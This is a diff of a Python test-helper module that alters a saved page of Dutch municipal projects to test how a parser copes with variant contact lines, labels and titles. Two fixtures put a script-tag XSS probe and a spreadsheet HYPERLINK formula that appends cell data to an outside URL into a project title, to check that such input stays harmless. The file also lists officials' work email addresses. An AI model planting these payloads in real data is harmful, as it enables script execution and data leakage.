@@ -9,7 +9,7 @@ import re
 from collections.abc import Callable
 from functools import partial
 
-from tests.markups import MARKUPS, WRITERS, in_markup, saved, saved_text
+from tests.markups import MARKUPS, WRITERS, in_markup, saved, saved_text, split
 
 Change = Callable[[str], str]
 
@@ -42,6 +42,30 @@ def section(text: str, first: str, end: str) -> str:
     """The lines from the one that starts with `first` to before the one that starts with `end`."""
     start = text.index(f"\n{first}") + 1
     return text[start : text.index(f"\n{end}", start) + 1]
+
+
+def contact_line(municipality: str) -> tuple[str, str]:
+    """The contact line of a municipality's first entry on the saved page: its label and who stands behind it."""
+    entry = next(entry for entry in split(saved_text()).entries if entry.municipality == municipality)
+    label, _, people = str(entry.contact).partition(": ")
+    return label, people
+
+
+def with_people(text: str, municipality: str, people: str, occurrence: int = 1) -> str:
+    """The page with others behind the label of a contact line."""
+    label, before = contact_line(municipality)
+    return replace(text, f"{label}: {before}\n", f"{label}: {people}\n", occurrence)
+
+
+def relabelled(text: str, municipality: str, label: str) -> str:
+    """The page with another label before a contact line."""
+    before, people = contact_line(municipality)
+    return replace(text, f"{before}: {people}\n", f"{label}: {people}\n")
+
+
+def gouda_titled(text: str, title: str) -> str:
+    """The page with another title of Gouda's project; Haarlem's has the same."""
+    return replace(text, "Project: Bestuurlijke weerbaarheid\nHet Programma", f"Project: {title}\nHet Programma")
 
 
 def deventer(text: str) -> str:
@@ -82,18 +106,17 @@ def mistyped_title(text: str) -> str:
 
 def leader_changed(text: str) -> str:
     """Gouda's only contact is Anna de Wit-'t Hart, a.dewit@gouda.nl."""
-    return replace(text, "Ebru Avci, ebru.avci@gouda.nl", "Anna de Wit-'t Hart, A.deWit@Gouda.nl.")
+    return with_people(text, "Gouda", "Anna de Wit-'t Hart, A.deWit@Gouda.nl.")
 
 
 def leader_changed_in_repeat(text: str) -> str:
     """Gorinchem's repeat becomes `variant` (2 same, 3 variant); its project has two leaders and addresses."""
-    old = "Sandra Katsikas, s.katsikas@gorinchem.nl"
-    return replace(text, old, "Bo Smit, b.smit@gorinchem.nl", occurrence=2)
+    return with_people(text, "Gorinchem", "Bo Smit, b.smit@gorinchem.nl", occurrence=2)
 
 
 def contact_missing(text: str) -> str:
     """31 entries, 40 contacts; Haarlem has neither contact_line nor contact, and a check warns."""
-    return replace(text, "Contact projectleiding: ondermijning@haarlem.nl\n", "")
+    return replace(text, ": ".join(contact_line("Haarlem")) + "\n", "")
 
 
 def theme_gone(text: str) -> str:
@@ -126,48 +149,46 @@ def unknown_municipality(text: str) -> str:
 
 def unknown_label(text: str) -> str:
     """31 entries; a check warns of the label "Trekker" at Deventer: its contact is not lost in silence."""
-    return replace(text, "Projectleider: Mattijs Dam", "Trekker: Mattijs Dam")
+    return relabelled(text, "Deventer", "Trekker")
 
 
 def label_variants(text: str) -> str:
     """The same 31 entries and 41 contacts, with these labels as published."""
-    for old, new in (
-        ("Projectleider: Valérie", "Projectleidster: Valérie"),
-        ("Projectleider: Peter", "Projectleider : Peter"),
-        ("Projectleider: Debora", "Projectleider(s): Debora"),
-        ("Projectleider: Marije", "Projectleiding: Marije"),
-        ("Projectleider: Ebru", "Contactpersoon: Ebru"),
-        ("Projectleider: Erik Baas", "Contact projectleiding: Erik Baas"),
-        ("Project: Binnenspiegel", "Project : Binnenspiegel"),
+    for municipality, label in (
+        ("Bonaire", "Projectleidster"),
+        ("Brunssum", "Projectleider "),
+        ("Culemborg", "Projectleider(s)"),
+        ("Eindhoven", "Projectleiding"),
+        ("Gouda", "Contactpersoon"),
+        ("Tytsjerksteradiel", "Contact projectleiding"),
     ):
-        text = replace(text, old, new)
-    return text
+        text = relabelled(text, municipality, label)
+    return replace(text, "Project: Binnenspiegel", "Project : Binnenspiegel")
 
 
 def contact_variants(text: str) -> str:
     """The same people and addresses in other notations; Oss has the number 0412345678 instead of 140412."""
-    for old, new in (
-        ("Valérie Plasmans, Valerie.Plasmans@minbzk.nl", "Valérie Plasmans (VALERIE.PLASMANS@MINBZK.NL)"),
-        ("Peter Peeters, peter.peeters@brunssum.nl", "Peter Peeters <peter.peeters@brunssum.nl>"),
-        ("Marije van Hal, m.van.hal@eindhoven.nl", "Marije van Hal - m.van.hal@eindhoven.nl."),
-        ("Ebru Avci, ebru.avci@gouda.nl", "Ebru Avci; ebru.avci(at)gouda.nl"),
-        ("telefoonnummer 140412", "telefoonnummer +31 (0)412 34 56 78"),
-        ("Rogier Gottmer, r.gottmer@", "Rogier Gottmer r.gottmer@"),
+    for municipality, notation in (
+        ("Bonaire", "{name} ({capitals})"),
+        ("Brunssum", "{name} <{address}>"),
+        ("Eindhoven", "{name} - {address}."),
+        ("Gouda", "{name}; {written}"),
+        ("'s-Hertogenbosch", "{name} {address}"),
     ):
-        text = replace(text, old, new)
-    return text
+        name, address = contact_line(municipality)[1].split(", ")
+        forms = {"address": address, "capitals": address.upper(), "written": address.replace("@", "(at)")}
+        text = with_people(text, municipality, notation.format(name=name, **forms))
+    return replace(text, "telefoonnummer 140412", "telefoonnummer +31 (0)412 34 56 78")
 
 
 def script_in_title(text: str) -> str:
     """Gouda's title holds markup, which is only text; it never reaches a page as markup."""
-    title = 'Project: <script>alert("weerbaar")</script> & <b>vet</b>\nHet Programma'
-    return replace(text, "Project: Bestuurlijke weerbaarheid\nHet Programma", title)
+    return gouda_titled(text, '<script>alert("weerbaar")</script> & <b>vet</b>')
 
 
 def formula_in_title(text: str) -> str:
     """Gouda's title is a spreadsheet formula: harmless in CSV, as published in Parquet, told in a check."""
-    title = 'Project: =HYPERLINK("https://example.nl/?"&A1,"Klik hier")\nHet Programma'
-    return replace(text, "Project: Bestuurlijke weerbaarheid\nHet Programma", title)
+    return gouda_titled(text, '=HYPERLINK("https://example.nl/?"&A1,"Klik hier")')
 
 
 def formula_in_text(text: str) -> str:
